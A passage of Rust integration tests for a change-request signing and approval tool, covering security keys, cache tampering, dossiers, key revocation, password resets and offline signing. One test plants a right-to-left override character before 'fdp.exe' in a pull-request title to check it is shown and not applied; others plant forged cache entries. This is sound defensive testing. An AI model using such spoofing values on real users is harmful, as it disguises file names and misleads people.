    let details: Vec<(String, String)> = rows
        .iter()
        .rev()
        .filter(|r| r.kind == "auth_succeeded" || r.kind == "session_ended")
        .map(|r| (r.kind.clone(), r.detail.clone().unwrap_or_default()))
        .collect();
    assert_eq!(
        details,
        [
            (
                "auth_succeeded".to_owned(),
                "forge identity and password".to_owned()
            ),
            (
                "auth_succeeded".to_owned(),
                "password (continuous session)".to_owned()
            ),
            (
                "session_ended".to_owned(),
                countersign_api::os_session::SUSPEND.to_owned()
            ),
            (
                "auth_succeeded".to_owned(),
                "forge identity and password".to_owned()
            ),
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_member_with_a_security_key_must_use_it_when_the_policy_says_so() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.session.set_security_key_device(Arc::new(SoftKey(
        std::sync::Mutex::new(webauthn_authenticator_rs::softpasskey::SoftPasskey::new(
            true,
        )),
        true,
    )));
    become_(&sandbox, "bob-qa");
    bob.session
        .register_security_key(countersign_api::contract::SecurityKeyRequest {
            pin: Some(Secret::from("123456")),
        })
        .await
        .unwrap();
    // Signed with the password alone while the policy allowed it.
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    assert!(gate(&sandbox, 43).await.approved);

    // The policy now requires QA members who have a key to use it.
    {
        edit_repo(&sandbox, |repo| {
            countersign_forge_sandbox::edit_policy(repo, |text| {
                let required = text.replace(
                    "name = \"qa\"\ndescription = \"QA\"\n",
                    "name = \"qa\"\ndescription = \"QA\"\nrequire_security_key = true\n",
                );
                assert_ne!(required, text);
                required
            });
        });
    }
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    let s = &g.review.signatures[0];
    assert_eq!(s.standing, Standing::Refused, "{s:?}");
    assert!(s.why.as_deref().unwrap().contains("security key"), "{s:?}");

    // And the app will not make a password-only signature for that role.
    become_(&sandbox, "bob-qa");
    let refused = bob
        .session
        .preview_signature(SignatureDraft {
            change_request: cr(43),
            meaning: Meaning::Approval,
            reason: "UT-9 passed".into(),
            role: "qa".into(),
            use_security_key: false,
            security_key_id: None,
            withdraws: None,
        })
        .await
        .unwrap_err();
    assert_eq!(
        refused.code,
        ErrorCode::SigningSecurityKeyRequired,
        "{refused:?}"
    );
}

/// A gate (or queue) run on the same machine reuses the answers kept on disk
/// by the last run, revalidated with ETags; an entry planted in that file is
/// not believed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repeated_gate_run_is_answered_by_304s_and_a_planted_cache_entry_is_dropped() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let dir = std::env::temp_dir().join(format!("countersign-http-cache-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let keychain = Arc::new(MemoryStore::default());
    let run = || async {
        let local = LocalStores {
            keychain: KeychainSource::Given(keychain.clone()),
            ledger: dir.join("ledger.sqlite"),
            http_cache_on_disk: true,
        };
        let target = ForgeTarget::Sandbox {
            api_base: Url::parse(&sandbox.api_base()).unwrap(),
        };
        let session = Session::start_with(target, local).await.unwrap();
        let before = sandbox.store().read().unwrap().not_modified;
        let report = session.gate(cr(44)).await.unwrap();
        drop(session);
        let after = sandbox.store().read().unwrap().not_modified;
        (report, after - before)
    };
    let (first, revalidated) = run().await;
    assert_eq!(revalidated, 0, "nothing cached yet");
    assert!(dir.join("http-cache.json").exists());
    let (second, revalidated) = run().await;
    assert!(revalidated >= 5, "{revalidated} answers were 304s");
    assert_eq!(first.review.status_line, second.review.status_line);

    // Someone with the file but not the keychain rewrites what was cached.
    let path = dir.join("http-cache.json");
    let mut entries: Vec<serde_json::Value> =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    for e in &mut entries {
        let body = b64.decode(e["body"].as_str().unwrap()).unwrap();
        let planted = String::from_utf8_lossy(&body).replace("Document", "Approved:") + " ";
        e["body"] = b64.encode(planted).into();
    }
    std::fs::write(&path, serde_json::to_vec(&entries).unwrap()).unwrap();
    let (third, revalidated) = run().await;
    assert_eq!(revalidated, 0, "planted entries are not used");
    assert_eq!(third.review.status_line, first.review.status_line);
}

/// Issue 12 §4: GitHub refuses comment bodies over 65,536 characters. A
/// record that names many evidence files does not fit; it must still reach
/// the forge (the ref holds it, the comment says so) instead of waiting in
/// the outbox for ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_record_too_large_for_a_comment_still_reaches_the_forge() {
    use std::io::Read;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let repo = &mut st.repos[0];
        let head = repo.pull(44).unwrap().head_sha.clone();
        let run = repo
            .workflow_runs
            .iter_mut()
            .find(|r| r.head_sha == head)
            .unwrap();
        // The reports CI made, and 1,000 more files beside them.
        let mut reports =
            zip::ZipArchive::new(std::io::Cursor::new(run.artifacts[0].zip.clone())).unwrap();
        let mut files: Vec<(String, Vec<u8>)> = (0..reports.len())
            .map(|i| {
                let mut f = reports.by_index(i).unwrap();
                let mut bytes = Vec::new();
                f.read_to_end(&mut bytes).unwrap();
                (f.name().unwrap().to_string(), bytes)
            })
            .collect();
        for i in 0..1000 {
            files.push((
                format!("screenshots/usability-session-{i:04}-occlusion-alarm-text.png"),
                vec![i as u8; 16],
            ));
        }
        let entries: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(n, b)| (n.as_str(), b.as_slice()))
            .collect();
        run.artifacts[0].zip = zip_of(&entries);
    }
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 44, "qa", Meaning::Approval).await;
    assert!(gate(&sandbox, 44).await.approved);
    let store = sandbox.store();
    let st = store.read().unwrap();
    let comment = st.repos[0]
        .comments
        .iter()
        .find(|c| c.issue == 44 && c.body.contains(countersign_api::push::COMMENT_MARKER))
        .expect("the records comment");
    assert!(comment.body.chars().count() <= 65_536);
    assert!(
        comment.body.contains("Bob Okafor"),
        "the manifestation is shown"
    );
    assert!(
        comment.body.contains("refs/countersign/pr-44"),
        "{}",
        &comment.body[..400]
    );
}

/// Issue 12 §6: the evidence of one change is bounded as a whole
/// (`[evidence] max_total_mib`, default 512): past it nothing is downloaded,
/// and the change is blocked saying why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evidence_past_the_policys_total_is_not_downloaded_and_blocks() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    // Enrolling rewrites the sandbox's roster, so the policy is capped after.
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    {
        edit_repo(&sandbox, |repo| {
            countersign_forge_sandbox::edit_policy(repo, |text| {
                let capped = text.replace("[evidence]\n", "[evidence]\nmax_total_mib = 0\n");
                assert_ne!(capped, text);
                capped
            });
        });
    }
    become_(&sandbox, "bob-qa");
    let review = bob.session.review_change_request(cr(43)).await.unwrap();
    assert_eq!(review.verdict, Verdict::Blocked, "{review:?}");
    assert!(
        review
            .evidence_problems
            .iter()
            .any(|p| p.contains("max_total_mib")),
        "{:?}",
        review.evidence_problems
    );
    assert!(review.evidence.is_empty());
}

/// Issue 18 (in part): a change's dossier holds the records, the roster, the
/// policy at the base and the evidence, each in MANIFEST.sha256; its records
/// verify offline against its roster; an edited file is named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dossier_verifies_and_names_an_edited_file() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    let dir = std::env::temp_dir().join(format!(
        "countersign-dossier-{}-{}",
        std::process::id(),
        sandbox.addr().port()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    let written = bob.session.dossier(cr(43), &dir).await.unwrap();
    for f in [
        "index.html",
        "dossier.pdf",
        "VERIFY.md",
        "records.bundle.json",
        "roster.json",
        "policy.toml",
        "evidence/test-reports.zip/junit.xml",
        "MANIFEST.sha256",
    ] {
        assert!(
            written.files.iter().any(|w| w == f),
            "{f} not in {:?}",
            written.files
        );
    }
    // And one archive of the same files beside it.
    let zip = std::fs::read(&written.zip).unwrap();
    assert!(zip.starts_with(b"PK"));
    let index = std::fs::read_to_string(dir.join("index.html")).unwrap();
    assert!(
        index.contains("Bob Okafor") && index.contains("Approved 1/1"),
        "{index}"
    );
    assert!(countersign_api::dossier::check(&dir).unwrap().holds);
    // The PDF says the same, as text a machine can read back.
    let pdf = pdf_text(&dir.join("dossier.pdf"));
    for said in [
        "Bob Okafor",
        "Approved 1/1",
        "Signed (local time)",
        "evidence/test-reports.zip/junit.xml",
    ] {
        assert!(pdf.contains(said), "{said:?} not in the PDF:\n{pdf}");
    }

    // The records verify offline against the dossier's own roster.
    let head = sandbox.store().read().unwrap().repos[0]
        .pull(43)
        .unwrap()
        .head_sha
        .clone();
    let outcome =
        countersign_api::bundle_check::verify_offline(countersign_api::bundle_check::VerifyInput {
            bundle: std::fs::read(dir.join("records.bundle.json")).unwrap(),
            keys: Some(std::fs::read(dir.join("roster.json")).unwrap()),
            commit: Some(head),
            diff: None,
            evidence: Vec::new(),
        })
        .unwrap();
    assert!(outcome.holds);

    // An inspector's copy edited, and one file added: both named.
    std::fs::write(
        dir.join("evidence/test-reports.zip/junit.xml"),
        b"<testsuites/>",
    )
    .unwrap();
    std::fs::write(dir.join("extra.txt"), b"x").unwrap();
    let c = countersign_api::dossier::check(&dir).unwrap();
    assert!(!c.holds);
    assert_eq!(c.changed, ["evidence/test-reports.zip/junit.xml"]);
    assert_eq!(c.unlisted, ["extra.txt"]);
}

/// The text of a PDF as `pdftotext` (poppler-utils) reads it.
fn pdf_text(path: &std::path::Path) -> String {
    let out = std::process::Command::new("pdftotext")
        .args(["-layout"])
        .arg(path)
        .arg("-")
        .output()
        .expect("pdftotext (apt: poppler-utils)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Issue 18 (in part): the dossier says what happened to a rejected change
/// and to one whose signature went stale, not only to an approved one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dossiers_of_a_rejected_and_a_stale_change_say_so() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let base = std::env::temp_dir().join(format!(
        "countersign-dossiers-{}-{}",
        std::process::id(),
        sandbox.addr().port()
    ));
    let _ = std::fs::remove_dir_all(&base);

    edit_pull(&sandbox, 44, |pr| pr.title.push_str(" \u{202E}fdp.exe"));
    bob.sign(&sandbox, 44, "qa", Meaning::Rejection).await;
    become_(&sandbox, bob.login);
    bob.session
        .dossier(cr(44), &base.join("rejected"))
        .await
        .unwrap();
    let rejected = std::fs::read_to_string(base.join("rejected/index.html")).unwrap();
    // Planted bidi controls are shown, never applied, in both renderings.
    let pdf = pdf_text(&base.join("rejected/dossier.pdf"));
    assert!(pdf.contains("Rejected"), "{pdf}");
    for text in [&rejected, &pdf] {
        assert!(
            text.contains("<U+202E>") || text.contains("&lt;U+202E&gt;"),
            "{text}"
        );
        assert!(!text.contains('\u{202E}'), "{text}");
    }
    assert!(rejected.contains("<strong>Rejected</strong>"), "{rejected}");
    assert!(
        rejected.contains("rejects the change") || rejected.contains("rejects"),
        "{rejected}"
    );

    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    edit_pull(&sandbox, 43, |pr| pr.head_sha = "f".repeat(40));
    become_(&sandbox, bob.login);
    bob.session
        .dossier(cr(43), &base.join("stale"))
        .await
        .unwrap();
    let stale = std::fs::read_to_string(base.join("stale/index.html")).unwrap();
    assert!(stale.contains("<td>stale: "), "{stale}");
    assert!(
        countersign_api::dossier::check(&base.join("stale"))
            .unwrap()
            .holds
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_queue_knows_what_waits_for_my_role_as_of_my_last_review_of_its_head() {
    use countersign_api::contract::ForMe;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let carol = device(&sandbox, "carol-clinical", "Dr. Carol Weiss").await;
    async fn for_me(d: &Device, sandbox: &RunningSandbox, number: u32) -> ForMe {
        become_(sandbox, d.login);
        let q = d.session.load_queue().await.unwrap();
        q.items.iter().find(|i| i.number == number).unwrap().for_me
    }
    async fn look(d: &Device, sandbox: &RunningSandbox, number: u32) {
        become_(sandbox, d.login);
        d.session.review_change_request(cr(number)).await.unwrap();
    }

    assert_eq!(for_me(&bob, &sandbox, 42).await, ForMe::NotJudged);
    look(&bob, &sandbox, 42).await;
    assert_eq!(for_me(&bob, &sandbox, 42).await, ForMe::Waiting);
    // Clinical safety signs after QA: not yet theirs.
    look(&carol, &sandbox, 42).await;
    assert_eq!(for_me(&carol, &sandbox, 42).await, ForMe::NotWaiting);

    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    look(&bob, &sandbox, 42).await;
    assert_eq!(for_me(&bob, &sandbox, 42).await, ForMe::NotWaiting);
    look(&carol, &sandbox, 42).await;
    assert_eq!(for_me(&carol, &sandbox, 42).await, ForMe::Waiting);

    // The head moves: what carol saw no longer answers the question.
    edit_pull(&sandbox, 42, |pr| pr.head_sha = "d".repeat(40));
    assert_eq!(for_me(&carol, &sandbox, 42).await, ForMe::NotJudged);
}

/// Issue 14: a lost laptop. An administrator revokes the member's key: the
/// roster edit and the revocation record the administrator signs go into one
/// pull request; once merged, the key signs nothing more, and what it signed
/// before stands.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_administrator_revokes_a_lost_key_with_a_signed_record_in_one_pull_request() {
    use countersign_api::contract::{RepoRef, RevokeKey};
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    let dan = device(&sandbox, "dan-release", "Dan Ito").await;
    become_(&sandbox, "dan-release");
    let draft = dan
        .session
        .admin_policy(RepoRef { repo: REPO.into() })
        .await
        .unwrap();
    let bobs_key = draft
        .check
        .roles
        .iter()
        .flat_map(|r| &r.members)
        .find(|m| m.login == "bob-qa")
        .and_then(|m| m.key_list.iter().find(|k| k.revoked_at.is_none()))
        .expect("Bob's key in the roster")
        .public_key
        .clone();
    let revoke = |password: &str| RevokeKey {
        repo: REPO.into(),
        public_key: bobs_key.clone(),
        reason: "Laptop stolen at the airport, reported INC-2231".into(),
        password: Secret::from(password),
    };
    let pulls_before = sandbox.store().read().unwrap().repos[0].pulls.len();
    let wrong = dan.session.revoke_key(revoke("not the password")).await;
    assert_eq!(wrong.unwrap_err().code, "signing.bad_password");
    assert_eq!(
        sandbox.store().read().unwrap().repos[0].pulls.len(),
        pulls_before,
        "nothing proposed without the administrator's signature"
    );

    let change = dan.session.revoke_key(revoke(PASSWORD)).await.unwrap();
    assert_eq!(change.holder, "Bob Okafor");
    assert!(
        change.roles.contains(&"qa".to_owned()),
        "{:?}",
        change.roles
    );
    let policy_text = pr_file(&sandbox, change.number, ".countersign/policy.toml");
    let record = pr_file(&sandbox, change.number, &change.record_path);
    assert!(policy_text.contains("revoked_at = "), "{policy_text}");
    // The record verifies against the administrator's key, over this policy text.
    let dan_key = countersign_policy::parse(&policy_text)
        .unwrap()
        .trusted_keys()
        .into_iter()
        .find(|k| k.forge.login == "dan-release")
        .expect("Dan's key in the roster")
        .public_key;
    let envelope: countersign_signing::dsse::Envelope = serde_json::from_str(&record).unwrap();
    let event =
        countersign_signing::key_event::verify(&envelope, &dan_key, Some(policy_text.as_bytes()))
            .unwrap();
    assert_eq!(event.key.holder.printed_name, "Bob Okafor");
    assert_eq!(event.by.printed_name, "Dan Ito");
    assert!(
        countersign_signing::key_event::verify(&envelope, &dan_key, Some(b"another policy"))
            .is_err()
    );

    // Merged: Bob's earlier approval stands; his key signs nothing more.
    merge(&sandbox, change.number);
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review.signatures);
    let refused = bob
        .preview_refused(&sandbox, kit::draft(42, "qa", Meaning::Approval))
        .await;
    assert!(refused.message.contains("revoked"), "{refused:?}");
    let trail = dan
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap();
    assert!(
        trail.rows.iter().any(|r| r.kind == "key_revocation"
            && r.reason.as_deref() == Some("Laptop stolen at the airport, reported INC-2231")),
        "{:?}",
        trail.rows
    );
}

/// Issue 14: a holder rotates to a new key. The record is signed with the
/// old key (who rotates held it); the roster ends the old key and lists the
/// new one in the same roles; merged, the new key signs and counts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_holder_rotates_to_a_new_key_signed_with_the_old_one() {
    use countersign_api::contract::RotateKey;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let fingerprint = |k: &countersign_signing::keys::PublicKey| k.fingerprint();
    let old_fp = bob
        .session
        .signer_status()
        .await
        .unwrap()
        .fingerprint
        .unwrap();
    const NEW: &str = "a fresh passphrase for the new key";
    let change = bob
        .session
        .rotate_key(RotateKey {
            repo: REPO.into(),
            reason: "Yearly key rotation (SOP-12)".into(),
            password: Secret::from(PASSWORD),
            new_password: Secret::from(NEW),
        })
        .await
        .unwrap();
    assert_eq!(change.holder, "Bob Okafor");
    let policy_text = pr_file(&sandbox, change.number, ".countersign/policy.toml");
    let record = pr_file(&sandbox, change.number, &change.record_path);
    let policy = countersign_policy::parse(&policy_text).unwrap();
    let bobs: Vec<_> = policy
        .trusted_keys()
        .into_iter()
        .filter(|k| k.forge.login == "bob-qa")
        .collect();
    let old = bobs
        .iter()
        .find(|k| fingerprint(&k.public_key) == old_fp)
        .expect("the old key is still listed, ended");
    assert!(old.valid_until.is_some());
    let new = bobs
        .iter()
        .find(|k| fingerprint(&k.public_key) != old_fp)
        .expect("the new key joins");
    let envelope: countersign_signing::dsse::Envelope = serde_json::from_str(&record).unwrap();
    let event = countersign_signing::key_event::verify(
        &envelope,
        &old.public_key,
        Some(policy_text.as_bytes()),
    )
    .unwrap();
    assert_eq!(
        event.new_key.map(|k| k.key_id),
        Some(new.public_key.key_id())
    );
    assert_eq!(
        bob.session.signer_status().await.unwrap().fingerprint,
        Some(fingerprint(&new.public_key)),
        "this device now signs with the new key"
    );

    // Merged: the new key, under its own password, signs and counts.
    merge(&sandbox, change.number);
    become_(&sandbox, bob.login);
    let draft = kit::draft(43, "qa", Meaning::Approval);
    bob.sign_only(draft, NEW, None).await.unwrap();
    assert_eq!(bob.session.push_outbox().await.unwrap().failed, 0);
    assert!(gate(&sandbox, 43).await.approved);
}

/// Bob, Alice (both QA, the policy's `reset_by`) and Carol, each enrolled;
/// the policy then lets QA members authorize password resets.
async fn reset_setup(sandbox: &RunningSandbox) -> (Device, Device, Device) {
    let bob = device(sandbox, "bob-qa", "Bob Okafor").await;
    let alice = device(sandbox, "alice-dev", "Alice Martin").await;
    let carol = device(sandbox, "carol-clinical", "Dr. Carol Weiss").await;
    let_qa_authorize_resets(sandbox);
    (bob, alice, carol)
}

/// The sandbox policy with `[session] reset_by = "qa"`, unless it has it.
fn let_qa_authorize_resets(sandbox: &RunningSandbox) {
    edit_repo(sandbox, |repo| {
        countersign_forge_sandbox::edit_policy(repo, |text| {
            if text.contains("reset_by") {
                return text.to_owned();
            }
            text.replacen(
                "version = 1\n",
                "version = 1\n\n[session]\nidle_timeout_minutes = 15\nmax_failures = 3\nlockout_minutes = 15\nreset_by = \"qa\"\n",
                1,
            )
        });
    });
}

/// What merging pull request `number` does to the base branch.
fn merge(sandbox: &RunningSandbox, number: u32) {
    edit_repo(sandbox, |repo| {
        let pr = repo.pull(u64::from(number)).unwrap().clone();
        for f in &pr.files {
            if let Some(new) = &f.new {
                repo.base_files
                    .insert(f.path.clone(), new.clone().into_bytes());
            }
        }
        countersign_forge_sandbox::sync_base_objects(repo);
    });
}

async fn authorize(sandbox: &RunningSandbox, admin: &Device, login: &str) -> String {
    use countersign_api::contract::AuthorizeReset;
    become_(sandbox, admin.login);
    let a = admin
        .session
        .authorize_reset(AuthorizeReset {
            repo: REPO.into(),
            login: login.into(),
            reason: "Identity confirmed in person against the badge".into(),
            password: Secret::from(PASSWORD),
        })
        .await
        .unwrap();
    merge(sandbox, a.number);
    a.record_path
}

async fn reset(
    sandbox: &RunningSandbox,
    who: &Device,
    authorizations: &[&str],
) -> Result<countersign_api::contract::KeyChange, countersign_api::ApiError> {
    become_(sandbox, who.login);
    who.session
        .enrol_after_reset(countersign_api::contract::ResetEnrolment {
            repo: REPO.into(),
            authorizations: authorizations.iter().map(|a| a.to_string()).collect(),
            password: Secret::from("a password I will remember"),
            acknowledged: true,
        })
        .await
}

/// Issue 14: a forgotten password. Two administrators of the policy's
/// `reset_by` role each sign an authorization; merged, they let the person
/// enrol a new key, which revokes the old one and takes its roles.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forgotten_password_is_reset_on_two_administrators_authorizations() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let (bob, alice, carol) = reset_setup(&sandbox).await;
    let first = authorize(&sandbox, &bob, "carol-clinical").await;
    let e = reset(&sandbox, &carol, &[&first]).await.unwrap_err();
    assert!(e.message.contains("2 different members of qa"), "{e:?}");
    let second = authorize(&sandbox, &alice, "carol-clinical").await;
    let change = reset(&sandbox, &carol, &[&first, &second]).await.unwrap();
    assert_eq!(change.holder, "Dr. Carol Weiss");
    merge(&sandbox, change.number);

    // The new key signs Carol's part of #42 and counts; the old one is revoked.
    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    become_(&sandbox, carol.login);
    carol
        .sign_only(
            kit::draft(42, "clinical-safety", Meaning::Responsibility),
            "a password I will remember",
            None,
        )
        .await
        .unwrap();
    assert_eq!(carol.session.push_outbox().await.unwrap().failed, 0);
    assert!(gate(&sandbox, 42).await.approved);
    let policy = String::from_utf8(
        sandbox.store().read().unwrap().repos[0].base_files[".countersign/policy.toml"].clone(),
    )
    .unwrap();
    assert_eq!(policy.matches("revoked_at").count(), 1, "{policy}");
    let trail = carol
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap();
    assert!(
        trail.rows.iter().any(|r| r.kind == "enrolment"
            && r.detail
                .as_deref()
                .is_some_and(|d| d.contains("Bob Okafor and Alice Martin"))),
        "{:?}",
        trail.rows
    );
}

/// Issue 14: authorizations that must not add up to a reset — one person
/// twice, someone outside `reset_by`, one for another person, one not merged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reset_authorizations_count_only_from_two_administrators_for_this_person_on_the_base_branch(
) {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let (bob, alice, carol) = reset_setup(&sandbox).await;
    let dan = device(&sandbox, "dan-release", "Dan Ito").await;
    // Dan's enrolment rewrote the sandbox policy: set reset_by again.
    let_qa_authorize_resets(&sandbox);
    let by_bob = authorize(&sandbox, &bob, "carol-clinical").await;
    let by_bob_again = authorize(&sandbox, &bob, "carol-clinical").await;
    let e = reset(&sandbox, &carol, &[&by_bob, &by_bob_again])
        .await
        .unwrap_err();
    assert!(e.message.contains("counts once"), "{e:?}");

    // Dan is not in QA: the app refuses to make his authorization.
    become_(&sandbox, dan.login);
    let e = dan
        .session
        .authorize_reset(countersign_api::contract::AuthorizeReset {
            repo: REPO.into(),
            login: "carol-clinical".into(),
            reason: "I know her".into(),
            password: Secret::from(PASSWORD),
        })
        .await
        .unwrap_err();
    assert!(e.message.contains("only members of qa"), "{e:?}");

    // Alice's authorization is for Dan: it does not reset Carol.
    let for_dan = authorize(&sandbox, &alice, "dan-release").await;
    let e = reset(&sandbox, &carol, &[&by_bob, &for_dan])
        .await
        .unwrap_err();
    assert!(e.message.contains("not yours"), "{e:?}");

    // Alice's authorization for Carol, proposed but not merged, does not count.
    become_(&sandbox, alice.login);
    let unmerged = alice
        .session
        .authorize_reset(countersign_api::contract::AuthorizeReset {
            repo: REPO.into(),
            login: "carol-clinical".into(),
            reason: "Identity confirmed by video call".into(),
            password: Secret::from(PASSWORD),
        })
        .await
        .unwrap();
    let e = reset(&sandbox, &carol, &[&by_bob, &unmerged.record_path])
        .await
        .unwrap_err();
    assert!(e.message.contains("merge it first"), "{e:?}");
}

/// The sandbox policy, letting records signed offline count within 72 hours.
fn allow_offline_signing(sandbox: &RunningSandbox) {
    edit_repo(sandbox, |repo| {
        countersign_forge_sandbox::edit_policy(repo, |text| {
            let text = text.replacen(
                "[gate]\n",
                "[gate]\nallow_offline_signing = true\nmax_offline_age = \"72h\"\n",
                1,
            );
            assert!(text.contains("allow_offline_signing"));
            text
        });
    });
}

/// Every request to the sandbox fails at the network, or none does.
fn forge_away(sandbox: &RunningSandbox, away: bool) {
    let store = sandbox.store();
    let mut st = store.write().unwrap();
    st.faults.clear();
    if away {
        st.inject("", countersign_forge_sandbox::Fault::ResetConnection, None);
    }
}

async fn sign_offline(bob: &Device, number: u32) -> Result<(), countersign_api::ApiError> {
    bob.sign_only(kit::draft(number, "qa", Meaning::Approval), PASSWORD, None)
        .await
}

/// Issue 14: on a plane. A change kept for offline is signed without the
/// forge, from its kept snapshot, with the same ceremony; the record waits
/// in the outbox, reaches the forge when it is back with a receipt that
/// dates its arrival, and counts as the policy says.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_kept_for_offline_is_signed_without_the_forge_and_counts_once_pushed() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    allow_offline_signing(&sandbox);
    let kept = bob.session.sync_offline().await.unwrap();
    assert!(kept.problems.is_empty(), "{:?}", kept.problems);

    forge_away(&sandbox, true);
    sign_offline(&bob, 43).await.unwrap();
    let waiting = bob.session.push_outbox().await;
    assert!(
        waiting.as_ref().map_or(true, |p| p.failed > 0),
        "pushed without a forge: {waiting:?}"
    );
    // A change never kept cannot be signed offline.
    let never = sign_offline(&bob, 4242).await.unwrap_err();
    assert!(never.message.contains("never synced"), "{never:?}");

    forge_away(&sandbox, false);
    // Before the push, the window judges it as the gate will once it arrives.
    let review = bob.session.review_change_request(cr(43)).await.unwrap();
    assert_eq!(
        review.signatures[0].standing,
        Standing::Counted,
        "{:?}",
        review.signatures
    );
    let pushed = bob.session.push_outbox().await.unwrap();
    assert_eq!(pushed.failed, 0, "{:?}", pushed.errors);
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review.signatures);
    let receipts = sandbox.store().read().unwrap().repos[0]
        .comments
        .iter()
        .filter(|c| {
            c.issue == 43
                && c.body
                    .contains(countersign_api::records_on_forge::RECEIPT_MARKER)
        })
        .count();
    assert_eq!(receipts, 1);
    // The record says it was signed offline, from when.
    let statements = statements_in_ref(&sandbox, 43);
    assert!(
        statements[0]["predicate"]["offline"]["snapshot_forge_time"].is_string(),
        "{}",
        statements[0]
    );
}

/// Issue 14: a policy that does not allow offline signing: the app does not
/// make such a record; and one cut loose from its receipt is not counted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn offline_signing_needs_the_policy_and_its_receipt() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.session.sync_offline().await.unwrap();
    forge_away(&sandbox, true);
    let refused = sign_offline(&bob, 43).await.unwrap_err();
    assert!(
        refused.message.contains("allow_offline_signing"),
        "{refused:?}"
    );
    forge_away(&sandbox, false);

    allow_offline_signing(&sandbox);
    bob.session.sync_offline().await.unwrap();
    forge_away(&sandbox, true);
    sign_offline(&bob, 43).await.unwrap();
    forge_away(&sandbox, false);
    assert_eq!(bob.session.push_outbox().await.unwrap().failed, 0);
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review.signatures);
    // Anyone with write access deletes the receipt: the arrival can no
    // longer be dated, and the record no longer counts.
    edit_repo(&sandbox, |repo| {
        repo.comments.retain(|c| {
            !c.body
                .contains(countersign_api::records_on_forge::RECEIPT_MARKER)
        });
    });
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    assert!(
        g.review.signatures[0]
            .why
            .as_deref()
            .is_some_and(|w| w.contains("cannot be dated")),
        "{:?}",
        g.review.signatures
    );
}

/// Issue 14: the change moved while the signer was away. The record signed
/// offline is kept on the device, says what moved, and is not pushed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_record_signed_offline_on_a_change_that_moved_is_kept_and_not_pushed() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    allow_offline_signing(&sandbox);
    bob.session.sync_offline().await.unwrap();
    forge_away(&sandbox, true);
    sign_offline(&bob, 43).await.unwrap();
    // Meanwhile someone pushes a new commit.
    forge_away(&sandbox, false);
    edit_pull(&sandbox, 43, |pr| pr.head_sha = "e".repeat(40));
    let pushed = bob.session.push_outbox().await.unwrap();
    assert_eq!(pushed.failed, 1, "{pushed:?}");
    assert!(
        pushed.errors[0].contains("kept, not pushed") && pushed.errors[0].contains("head commit"),
        "{:?}",
        pushed.errors
    );
    assert!(
        !sandbox.store().read().unwrap().repos[0]
            .git
            .refs
            .contains_key("refs/countersign/pr-43"),
        "nothing reached the forge"
    );
    let outbox = bob.session.outbox().await.unwrap();
    assert_eq!(outbox.items.len(), 1);
    assert_eq!(
